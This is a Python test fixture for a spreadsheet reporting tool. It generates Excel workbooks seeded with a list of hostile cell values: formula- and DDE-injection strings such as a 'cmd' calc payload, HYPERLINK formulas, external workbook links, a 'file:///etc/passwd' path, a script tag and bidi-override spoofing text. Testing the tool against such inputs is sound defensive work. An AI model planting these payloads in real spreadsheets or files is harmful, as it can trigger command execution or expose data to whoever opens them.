"""Texts that try to be more than text, and offices in which they are typed everywhere."""

import random
import re
import zipfile
from collections.abc import Mapping, Sequence
from io import BytesIO
from itertools import count
from pathlib import Path
from xml.sax.saxutils import escape

from contoh import RENCANA, SUB

from lakip_xl.domain.kata_baku import cacat_kata
from lakip_xl.excel.gambar.templat import Tujuan, tulis_templat
from lakip_xl.laporan.prefill import lembar_unit, prefill
from lakip_xl.pipeline.baca import baca_rencana
from lakip_xl.sheets.column import Column, Dari, Tipe
from lakip_xl.sheets.masukan import MASUKAN
from lakip_xl.sheets.perencanaan import PERENCANAAN, Unit
from lakip_xl.sheets.sheet import Sheet

JAHIL: tuple[str, ...] = (
    'X"})&HYPERLINK("http://x.invalid/"&A1)&INDEX({"Y, Baik',
    'Sangat "Baik"',
    "Hore!A1 Pencari kerja",
    "=Hore!$A$1",
    '=HYPERLINK("http://example.invalid/","klik")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    " =1+1",
    "\t=1+1",
    "a\r=1+1",
    "a\r\n-1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "{=1+1}",
    '{"a","b"}',
    "&G&[Picture]&14",
    '8&"Arial"&A',
    "'; DROP",
    "a'b'!c",
    "[1]Lembar!A1",
    "[evil.xlsx]Sheet1!A1",
    "cmd|' /C calc'!A0",
    "http://example.invalid/",
    "file:///etc/passwd",
    "internal:'Sampul'!A1",
    "external:x.xlsx",
    "_x000D_=1",
    "_x0041_",
    "<script>alert(1)</script>&amp;]]>",
    "\x1b[31mmerah\x1b[0m",
    "a\u202ecod.exe",
    "\u2066a\u2069",
    "a\u2028b\u2029c\x85d",
    "\U0001f4b0" * 40,
    "*?~",
    "><=",
    "%00%n{0}{kode}",
    "x" * 300,
    "\U0001f4b0" * 5_000,
    "y" * 32_767,
    '"' * 300,
    "&" * 300,
)
_HURUF = "\"'!=+-@{}()[]&<>|;,:#%$*?~_x0D\t\r\n\x1b\x00\u202e\u2066\u200b\ufffe\uff1d\uff0b\uff0d\uff20\U0001f4b0aB1 "


def acak(acakan: random.Random) -> str:
    """Return a text of signs that act somewhere, or a known one cut and joined."""
    if acakan.random() < 0.4:
        return acakan.choice(JAHIL)[: acakan.randrange(1, 60)] + acakan.choice(JAHIL)[-acakan.randrange(1, 60) :]
    return "".join(acakan.choices(_HURUF, k=acakan.choice((1, 3, 8, 20, 60, 300))))


class _Penabur:
    """Puts a mark for the next text into each cell that takes one; the marks become texts in the XML."""

    def __init__(self, semua: Sequence[str], mulai: int) -> None:
        self.semua = semua
        self.nomor = count(mulai)

    def baris(self, lembar: Sheet, ada: Sequence[Mapping[str, object]], tambahan: int) -> list[dict[str, object]]:
        """Return the rows that are there with other texts, and rows of texts alone, keys included."""
        if lembar.nama in _PENYUSUN:
            return [dict(isi) for isi in ada]
        hasil = [{**isi, **self._bebas(lembar, isi)} for isi in ada]
        bertambah = range(tambahan if lembar.mendatar and lembar.bertambah else 0)
        baru = [{kolom.key: self._nilai(kolom, urutan) for kolom in lembar.diketik} for urutan in bertambah]
        if lembar is Unit.lembar:
            baru = [{**isi, "kode": f"unit-{urutan}"} for urutan, isi in enumerate(baru)]
        return hasil + baru

    def _bebas(self, lembar: Sheet, isi: Mapping[str, object]) -> dict[str, object]:
        return {
            kolom.key: self.tanda()
            for kolom in lembar.diketik
            if kolom.tipe is Tipe.TEKS and kolom.choices is None and not (kolom.key in _ACUAN and isi.get(kolom.key))
        }

    def _nilai(self, kolom: Column, urutan: int) -> object:
        if isinstance(kolom.choices, Dari):
            return _PERTAMA.get(kolom.choices)
        if kolom.pilihan:
            return str(kolom.pilihan[urutan % len(kolom.pilihan)])
        if kolom.tipe is Tipe.TEKS or urutan % 3 == 0:
            return self.tanda()
        return 2021 if kolom.key == "tahun" else None if kolom.tipe is Tipe.TANGGAL else 1

    def tanda(self) -> str:
        """Return the mark of the next text."""
        return f"JAHIL-{next(self.nomor) % len(self.semua):05}-"

    def tabur(self, isi: bytes) -> bytes:
        """Return a workbook with the texts in place of their marks, as a program would store them."""
        with zipfile.ZipFile(BytesIO(isi)) as arsip:
            semua = {nama: arsip.read(nama).decode() for nama in arsip.namelist()}
        bersama = semua["xl/sharedStrings.xml"]
        semua["xl/sharedStrings.xml"] = re.sub(r"<t>JAHIL-(\d+)-</t>", self._xml, bersama)
        hasil = BytesIO()
        with zipfile.ZipFile(hasil, "w", zipfile.ZIP_DEFLATED) as arsip:
            for nama, teks in semua.items():
                arsip.writestr(nama, teks.encode())
        return hasil.getvalue()

    def _xml(self, cocok: re.Match[str]) -> str:
        teks = re.sub(r"_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", self.semua[int(cocok[1])])
        teks = re.sub(r"[\x00-\x08\x0b-\x1f\ufffe\uffff]", lambda huruf: f"_x{ord(huruf[0]):04X}_", teks)
        return f'<t xml:space="preserve">{escape(teks)}</t>'


_PENYUSUN = frozenset({"Skala", "Predikat"})
"""Sheets of words that formulas hold: `kantor_jahil` fills them with those that may stand there."""
_ACUAN = frozenset({"kode", "acuan", "nama"})
_PERTAMA = {Dari("Unit", "kode"): "bidang", Dari("Sasaran", "kode"): "T1.S1", Dari("Program", "kode"): SUB}


def kantor_jahil(folder: Path, semua: Sequence[str] = JAHIL, mulai: int = 0) -> Path:
    """Write the small office with texts in every cell to type, from number `mulai` on, and return its folder.

    Sheets that grow have a row for every text besides their own. Words that may be a category or a predikat are one.
    """
    (folder / "masukan").mkdir(parents=True)
    penabur = _Penabur(semua, mulai)
    boleh = [kata for kata in semua if not cacat_kata(kata.strip()) and kata.strip()] or ["Baik"]
    rencana = {
        lembar.nama: penabur.baris(lembar, RENCANA.get(lembar.nama, ()), len(semua)) for lembar in PERENCANAAN.sheets
    }
    rencana["Skala"] = [
        {**isi, "kategori": boleh[(mulai + urutan) % len(boleh)].strip() + urutan * "."}
        for urutan, isi in enumerate(RENCANA["Skala"])
    ]
    for nomor, kata in enumerate(boleh):
        rencana["Predikat"] += [
            {"skala": f"Skala {nomor}", "predikat": predikat, "urutan": urutan}
            for urutan, predikat in enumerate((kata.strip(), "Wajar"), start=1)
        ]
        rencana["Indikator"].append(
            {
                **RENCANA["Indikator"][0],
                "kode": f"P-{nomor}",
                "polaritas": "predikat",
                "skala_predikat": f"Skala {nomor}",
                "target": kata.strip(),
            }
        )
    tujuan = Tujuan(tahun=2022, perangkat_daerah="Dinas Contoh")
    (folder / "perencanaan.xlsx").write_bytes(penabur.tabur(tulis_templat(PERENCANAAN, rencana, tujuan)))
    laporan = baca_rencana(folder)
    for nomor, unit in enumerate(laporan.unit):
        lembar = lembar_unit(laporan, unit)
        awal = prefill(laporan, unit)
        isi = {satuan.nama: penabur.baris(satuan, awal.get(satuan.nama, ()), len(semua)) for satuan in lembar}
        for baris in isi["Indikator"]:
            baris["realisasi"] = baris.get("target")
        buku = tulis_templat(MASUKAN, isi, Tujuan(unit.kode, unit.nama, 2022, unit.nama), lembar, laporan.ruang)
        (folder / "masukan" / f"{nomor}.xlsx").write_bytes(penabur.tabur(buku))
    return folder
